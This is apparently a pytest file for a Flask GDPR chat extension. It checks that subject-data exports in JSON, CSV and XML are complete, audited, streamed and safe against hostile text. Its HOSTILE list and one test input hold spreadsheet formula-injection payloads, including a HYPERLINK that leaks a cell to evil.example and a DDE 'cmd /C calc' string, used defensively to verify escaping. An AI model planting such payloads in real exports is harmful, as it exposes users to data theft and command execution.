"""Exports (Art. 15, 20): three formats, complete, safe for hostile text, streamed."""
from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from sqlalchemy import insert, select

from flask_gdprchat.core import signals
from flask_gdprchat.core.models import AuditEvent, Message, SubjectRequest
from flask_gdprchat.core.state import session
from flask_gdprchat.rights.export import export_bytes, neutralise_cell, xml_safe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB first",
    "\rCR first",
    'nul\x00 vt\x0b <tag> & "quotes" \'apos\' \x1f end',
    "emoji 🎉👩‍💻 and ünïcødé",
]


def parse_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def test_every_format_holds_the_profile_consents_and_every_message(make_app, make_subject):
    app = make_app()
    subject = make_subject(app)
    with app.app_context():
        as_json = json.loads(export_bytes(subject.email, "json", channel="api"))
        as_csv = parse_csv(export_bytes(subject.email, "csv", channel="api"))
        as_xml = ET.fromstring(export_bytes(subject.email, "xml", channel="api"))

    # JSON: the complete machine-readable form.
    (contact,) = as_json["contacts"]
    assert contact["profile"]["name"] == subject.name
    assert contact["profile"]["email"] == subject.email.lower()
    assert contact["profile"]["company"] == subject.company
    assert contact["profile"]["phone"] == subject.phone
    assert {c["purpose"] for c in contact["consents"]} == {"privacy_policy", "marketing"}
    assert all(c["policy_version"] == "1" and c["wording"] for c in contact["consents"])
    (conversation,) = contact["conversations"]
    messages = conversation["messages"]
    assert [m["id"] for m in messages] == subject.message_ids
    assert [m["text"] for m in messages if m["author"] == "visitor"] == subject.visitor_texts
    assert {m["author_name"] for m in messages if m["author"] == "agent"} == {"Bruno"}
    assert {m["author_name"] for m in messages if m["author"] == "visitor"} == {subject.name}
    edited = messages[-1]
    assert edited["edited_at"] and edited["edits"][0]["previous_text"] == "Found it: it shipd today."

    # CSV: the same facts, one row each.
    profile = {r["field"]: r["value"] for r in as_csv if r["section"] == "profile"}
    assert profile["name"] == subject.name and profile["company"] == subject.company
    assert profile["phone"] == "'" + subject.phone  # "+..." would run as a formula
    texts = [r["value"] for r in as_csv if r["section"] == "message" and r["field"] == "text"]
    assert texts == [m["text"] for m in messages]
    assert {r["value"] for r in as_csv if r["section"] == "consent" and r["field"] == "purpose"} == {
        "privacy_policy", "marketing"}
    assert [r["value"] for r in as_csv if r["section"] == "message_edit"] == [
        "Found it: it shipd today."]

    # XML: the same facts again.
    assert as_xml.findtext("contact/profile/name") == subject.name
    assert as_xml.findtext("contact/profile/email") == subject.email.lower()
    xml_messages = as_xml.findall("contact/conversations/conversation/message")
    assert [int(m.get("id")) for m in xml_messages] == subject.message_ids
    assert [m.findtext("text") for m in xml_messages] == [m["text"] for m in messages]
    assert xml_messages[1].get("author-name") == "Bruno"
    assert xml_messages[-1].findtext("edit/previous-text") == "Found it: it shipd today."
    assert len(as_xml.findall("contact/consents/consent")) == 2


def test_hostile_text_is_inert_in_csv_and_well_formed_in_xml(make_app, make_subject):
    app = make_app()
    subject = make_subject(app, name="=cmd|' /C calc'!A0", visitor_texts=HOSTILE)
    with app.app_context():
        rows = parse_csv(export_bytes(subject.email, "csv", channel="api"))
        tree = ET.fromstring(export_bytes(subject.email, "xml", channel="api"))
        data = json.loads(export_bytes(subject.email, "json", channel="api"))

    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
    visitor_cells = [r["value"] for r in rows
                     if r["section"] == "message" and r["author_role"] == "visitor"]
    assert visitor_cells[0] == "'" + HOSTILE[0]
    assert visitor_cells[-1] == HOSTILE[-1]  # harmless text is left exactly as typed
    names = {r["author_name"] for r in rows if r["author_role"] == "visitor"}
    assert names == {"'=cmd|' /C calc'!A0"}

    texts = [m.findtext("text") for m in tree.iter("message") if m.get("author") == "visitor"]
    assert texts[6] == "nul vt <tag> & \"quotes\" 'apos'  end"  # forbidden characters dropped
    assert texts[7] == HOSTILE[7]
    assert texts[0] == HOSTILE[0]
    # JSON keeps every character exactly.
    json_texts = [m["text"] for m in data["contacts"][0]["conversations"][0]["messages"]
                  if m["author"] == "visitor"]
    assert json_texts == HOSTILE


def test_cell_and_xml_helpers():
    assert neutralise_cell("=1+1") == "'=1+1"
    assert neutralise_cell("plain") == "plain"
    assert neutralise_cell(5) == 5
    assert xml_safe("a\x00b\x08c\x0bd\ufffee\ud800f") == "abcdef"
    assert xml_safe("tab\tnl\ncr\r") == "tab\tnl\ncr\r"


def test_unknown_format_and_unknown_address_are_refused(make_app, make_subject):
    app = make_app()
    subject = make_subject(app)
    with app.app_context():
        with pytest.raises(ValueError, match="unknown export format"):
            export_bytes(subject.email, "pdf", channel="api")
        with pytest.raises(ValueError, match="no data"):
            export_bytes("nobody@example.test", "json", channel="api")
        with pytest.raises(ValueError, match="unknown export format"):
            app.extensions["gdprchat"].chat.export_subject(subject.email, "yaml")


def test_an_export_is_logged_audited_and_signalled(make_app, make_subject, listen_to, backend):
    app = make_app(backend)
    subject = make_subject(app)
    with app.app_context(), listen_to(signals.subject_exported) as sent:
        data = app.extensions["gdprchat"].chat.export_subject(subject.email, "json")
        assert json.loads(data)["contacts"]
        assert sent == [{"sender": app, "contact_id": subject.contact_id, "format": "json",
                         "channel": "api"}]
        request = session().scalars(select(SubjectRequest).where(
            SubjectRequest.kind == "export")).one()
        assert request.status == "fulfilled" and request.channel == "api"
        assert request.due_at > request.received_at
        event = session().scalars(select(AuditEvent).where(
            AuditEvent.event == "subject_exported")).one()
        assert event.details == {"format": "json", "contacts": 1}


def test_a_long_history_streams_in_batches(make_app, make_subject, client_for_link):
    app = make_app()
    subject = make_subject(app)
    total = 12_000
    with app.app_context():
        session().execute(insert(Message), [
            {"conversation_id": subject.conversation_id, "author": "visitor", "text": f"line {i}"}
            for i in range(total)
        ])
        session().commit()
    client, path = client_for_link(app, subject.email)
    for fmt in ("json", "csv", "xml"):
        response = client.get(f"{path}/export.{fmt}", buffered=False)
        assert response.status_code == 200
        assert response.is_streamed
        chunks = list(response.response)
        response.close()
        body = b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks)
        # Many pieces, not one document built in memory and sent at once.
        assert len(chunks) > total // 1000, fmt
        if fmt == "json":
            messages = json.loads(body)["contacts"][0]["conversations"][0]["messages"]
            assert len(messages) == total + len(subject.message_ids)
            assert messages[-1]["text"] == f"line {total - 1}"
        elif fmt == "xml":
            assert len(ET.fromstring(body).findall(".//message")) == total + len(subject.message_ids)
        else:
            rows = [r for r in parse_csv(body) if r["field"] == "text"]
            assert len(rows) == total + len(subject.message_ids)
